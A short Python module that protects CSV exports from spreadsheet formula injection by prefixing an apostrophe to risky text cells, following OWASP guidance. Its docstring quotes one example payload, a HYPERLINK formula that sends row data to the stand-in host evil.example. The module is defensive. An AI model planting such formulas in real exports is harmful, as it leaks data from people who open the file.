"""CSV cells that a spreadsheet cannot run: the OWASP rule against CSV (formula) injection.

A spreadsheet reads a cell that starts with = + - @ (or TAB / CR, which some strip before reading) as a
formula: a requester named `=HYPERLINK("http://evil.example/?leak="&A1,"click")` would leak the row when the
export is opened in Excel. Such a cell gets a leading apostrophe, which spreadsheets show but do not evaluate
(https://owasp.org/www-community/attacks/CSV_Injection). The check looks past leading whitespace, since some
spreadsheets trim it first, and also catches the full-width forms (＝ ＋ － ＠) a Chinese input method types.

Only text is touched: numbers written by the export (ids, working days left, which may be negative) stay
numbers. Quotes and separators are the csv module's job.
"""
from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")


def neutralise(cell):
    """`cell`, with a leading apostrophe if a spreadsheet would read it as a formula."""
    if not isinstance(cell, str) or not cell:
        return cell
    if cell[0] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS:
        return "'" + cell
    return cell


def safe_row(row: Iterable) -> list:
    return [neutralise(cell) for cell in row]
